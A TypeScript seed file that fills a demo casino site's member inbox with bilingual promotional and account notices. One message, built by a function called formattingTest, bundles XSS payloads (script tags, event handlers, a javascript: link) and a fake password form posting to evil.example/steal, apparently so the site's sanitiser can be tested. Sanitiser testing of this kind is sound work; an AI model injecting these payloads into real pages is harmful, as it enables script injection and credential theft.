import { formatAmount, insertMessage, sendMessage, type MessageText } from '../../services/inbox.ts';
import type { Db } from '../database.ts';
import { accounts, DEMO_PASSWORD_CHANGED_DAYS_AGO } from './accounts.ts';
import { day, hour, minute } from './random.ts';

/** A back-office notice: `[en, ty]` title and HTML body. */
const notice = (title: [string, string], content: [string, string]): MessageText => ({
  template: 'notice',
  title,
  content,
});

/**
 * A message whose body is every trick a compromised back office could publish: the site's
 * sanitiser must show its text and run none of it (the notices seed has the same for announcements).
 */
function formattingTest(text: { intro: string; link: string; handlers: string; button: string }) {
  return [
    `<p>${text.intro}</p>`,
    `<img src="x" onerror="alert('message-xss')">`,
    `<script>document.title = 'owned'</script>`,
    `<p><a href="javascript:alert('message-xss')">${text.link}</a></p>`,
    `<iframe src="https://evil.example/frame"></iframe>`,
    `<p onclick="alert('message-xss')" onmouseover="alert('message-xss')" style="background-image:url(javascript:alert(1))">${text.handlers}</p>`,
    `<svg onload="alert('message-xss')"></svg>`,
    `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>${text.button}</button></form>`,
  ].join('');
}

/** The showcase member's notices, with how long ago each came and whether it was read. */
const demoNotices: [ago: number, read: boolean, message: MessageText][] = [
  [
    day - 3 * hour,
    false,
    notice(
      ['You won the weekly draw', 'Nanalo ka sa lingguhang bola'],
      [
        '<p>Your ticket won <strong>250.00</strong> in the weekly draw. Claim it in the <em>Reward centre</em> within two days.</p>',
        '<p>Nanalo ang iyong tiket ng <strong>250.00</strong> sa lingguhang bola. Kunin ito sa <em>Reward centre</em> sa loob ng dalawang araw.</p>',
      ],
    ),
  ],
  [
    2 * day,
    false,
    notice(
      ['Formatting test: nothing in this message may run', 'Pagsubok sa format: walang dapat tumakbo sa mensaheng ito'],
      [
        formattingTest({
          intro:
            'This message tests the inbox’s sanitiser. You should see this line and a word in <strong>bold</strong>, and nothing should happen.',
          link: 'A link that must not run',
          handlers: 'A paragraph with inline handlers.',
          button: 'Confirm',
        }),
        formattingTest({
          intro:
            'Sinusubok ng mensaheng ito ang sanitiser ng inbox. Dapat mong makita ang linyang ito at isang salitang <strong>makapal</strong>, at walang dapat mangyari.',
          link: 'Link na hindi dapat tumakbo',
          handlers: 'Talatang may inline handler.',
          button: 'Kumpirmahin',
        }),
      ],
    ),
  ],
  [
    2 * day + 2 * hour,
    true,
    notice(
      ['Your birthday gift expires tomorrow', 'Mag-e-expire bukas ang iyong regalo sa kaarawan'],
      [
        '<p>Happy birthday! Claim your <strong>300.00</strong> gift in the <em>Reward centre</em> before it expires.</p>',
        '<p>Maligayang kaarawan! Kunin ang iyong regalong <strong>300.00</strong> sa <em>Reward centre</em> bago ito mag-expire.</p>',
      ],
    ),
  ],
  [
    3 * day - hour,
    true,
    notice(
      ['Live casino cashback credited', 'Naikredito ang live casino cashback'],
      [
        '<p>Your live casino cashback of <strong>64.50</strong> has been added to your wallet.</p>',
        '<p>Naidagdag na sa iyong wallet ang live casino cashback na <strong>64.50</strong>.</p>',
      ],
    ),
  ],
  [
    4 * day,
    false,
    notice(
      ['Live casino tournament this weekend', 'Live casino tournament ngayong weekend'],
      [
        '<p>Bet on any live table from Friday to Sunday to climb the leaderboard. The <strong>top 50</strong> players share the prize pool.</p>',
        '<p>Tumaya sa anumang live table mula Biyernes hanggang Linggo para umakyat sa leaderboard. Paghahatian ng <strong>top 50</strong> na manlalaro ang prize pool.</p>',
      ],
    ),
  ],
  [
    6 * day + 12 * hour,
    true,
    notice(
      ['Your points are waiting in the mall', 'Naghihintay ang iyong puntos sa mall'],
      [
        '<p>Redeem points for bonus credit, free spins and prizes in the <em>Points mall</em>. Points never expire.</p>',
        '<p>I-redeem ang puntos para sa bonus credit, libreng spin at mga premyo sa <em>Points mall</em>. Hindi nag-e-expire ang puntos.</p>',
      ],
    ),
  ],
  [
    9 * day,
    true,
    notice(
      ['Game provider maintenance', 'Maintenance ng game provider'],
      [
        '<p><strong>PG</strong> games are under maintenance on Wednesday, 10:00–11:00. Balances in game wallets are safe.</p>',
        '<p>Naka-maintenance ang mga larong <strong>PG</strong> sa Miyerkoles, 10:00–11:00. Ligtas ang mga balanse sa game wallet.</p>',
      ],
    ),
  ],
  [
    11 * day,
    true,
    notice(
      ['New mission: spin 50 times', 'Bagong misyon: mag-spin ng 50 beses'],
      [
        '<p>Play any slot 50 times this week and earn <strong>20.00</strong>. Follow it under <em>Mission activity</em>.</p>',
        '<p>Maglaro ng kahit anong slot ng 50 beses ngayong linggo at kumita ng <strong>20.00</strong>. Subaybayan ito sa <em>Mission activity</em>.</p>',
      ],
    ),
  ],
  [
    13 * day,
    true,
    notice(
      ['Your daily withdrawal limit went up', 'Tumaas ang iyong araw-araw na limitasyon sa withdrawal'],
      [
        '<p>As a Gold member your daily withdrawal limit is now higher. Each payment channel’s own limits still apply.</p>',
        '<p>Bilang Gold member, mas mataas na ngayon ang iyong araw-araw na limitasyon sa withdrawal. Nalalapat pa rin ang sariling limitasyon ng bawat payment channel.</p>',
      ],
    ),
  ],
  [
    14 * day,
    true,
    notice(
      ['You reached Gold VIP', 'Naabot mo na ang Gold VIP'],
      [
        '<p>Congratulations! Your VIP level is now <strong>Gold</strong>: higher withdrawal limits, faster payouts and a personal host.</p>',
        '<p>Binabati kita! <strong>Gold</strong> na ang iyong VIP level: mas mataas na limitasyon sa withdrawal, mas mabilis na payout at sariling host.</p>',
      ],
    ),
  ],
  [
    16 * day,
    true,
    notice(
      ['Deposit with GCash and Maya', 'Mag-deposito gamit ang GCash at Maya'],
      [
        '<p>Two new instant channels: <em>GCash</em> and <em>Maya</em>. No fees, credited in under a minute.</p>',
        '<p>Dalawang bagong instant na channel: <em>GCash</em> at <em>Maya</em>. Walang bayad, naikredito sa loob ng isang minuto.</p>',
      ],
    ),
  ],
  [
    20 * day,
    true,
    notice(
      ['Play responsibly', 'Maglaro nang responsable'],
      [
        '<p>Set a deposit limit or take a break whenever you need to. Our support team can help 24x7.</p>',
        '<p>Magtakda ng limitasyon sa deposito o magpahinga kapag kailangan. Handang tumulong ang aming support team 24x7.</p>',
      ],
    ),
  ],
  [
    22 * day,
    false,
    notice(
      ['Invite friends, earn together', 'Mag-imbita ng kaibigan, sabay kumita'],
      [
        '<p>Share your invitation link from <em>Invite friends</em>. When a friend registers and deposits, you both get a bonus.</p>',
        '<p>Ibahagi ang iyong invitation link mula sa <em>Invite friends</em>. Kapag nagrehistro at nag-deposito ang kaibigan, pareho kayong may bonus.</p>',
      ],
    ),
  ],
  [
    25 * day,
    true,
    notice(
      ['Your welcome bonus is ready', 'Handa na ang iyong welcome bonus'],
      [
        '<p>A welcome bonus of <strong>888.00</strong> is waiting for you. Claim it in the <em>Reward centre</em>.</p>',
        '<p>Naghihintay sa iyo ang welcome bonus na <strong>888.00</strong>. Kunin ito sa <em>Reward centre</em>.</p>',
      ],
    ),
  ],
  [
    DEMO_PASSWORD_CHANGED_DAYS_AGO * day,
    true,
    notice(
      ['Your password was changed', 'Napalitan ang iyong password'],
      [
        '<p>The password of your account was changed. If this was not you, contact customer service at once.</p>',
        '<p>Napalitan ang password ng iyong account. Kung hindi ikaw ito, makipag-ugnayan agad sa customer service.</p>',
      ],
    ),
  ],
  [
    100 * day,
    true,
    notice(
      ['Mobile number verified', 'Na-verify ang numero ng mobile'],
      [
        '<p>Your mobile number is verified. You can now sign in with an SMS code and reset your password by phone.</p>',
        '<p>Na-verify na ang iyong numero ng mobile. Maaari ka nang mag-log in gamit ang SMS code at mag-reset ng password sa pamamagitan ng telepono.</p>',
      ],
    ),
  ],
];

/**
 * Everyone gets the welcome message. The showcase member gets enough for three pages at the
 * inbox's default page size of 12: the four templates of spec §3 (one for each deposit and payout
 * of their payment history, plus a failed deposit and a rejected withdrawal), notices, and the
 * formatting test; 8 of 25 unread. Times are fixed offsets from the seed's clock.
 */
export function seedInbox(db: Db, ids: Map<string, number>, merchant: string, now: number) {
  for (const account of accounts) {
    const memberId = ids.get(`${merchant}/${account.username}`)!;
    sendMessage(db, memberId, 'welcome', {}, now - 30 * day, !account.showcase && account.type !== 0);
    if (!account.showcase) continue;
    const amount = (units: number) => ({ amount: formatAmount(units * 100) });
    sendMessage(db, memberId, 'deposit-credited', amount(1_000), now - 10 * day, true);
    sendMessage(db, memberId, 'withdrawal-approved', amount(200), now - 8 * day + 2 * minute, true);
    sendMessage(db, memberId, 'deposit-failed', amount(3_000), now - 7 * day, true);
    sendMessage(db, memberId, 'withdrawal-rejected', amount(5_000), now - 6 * day);
    sendMessage(db, memberId, 'deposit-credited', amount(2_000), now - 5 * day, true);
    sendMessage(db, memberId, 'withdrawal-approved', amount(800), now - 3 * day + 2 * minute, true);
    sendMessage(db, memberId, 'deposit-credited', amount(500), now - day);
    sendMessage(db, memberId, 'withdrawal-approved', amount(300), now - 8 * minute);
    for (const [ago, read, message] of demoNotices) insertMessage(db, memberId, message, now - ago, read);
  }
}
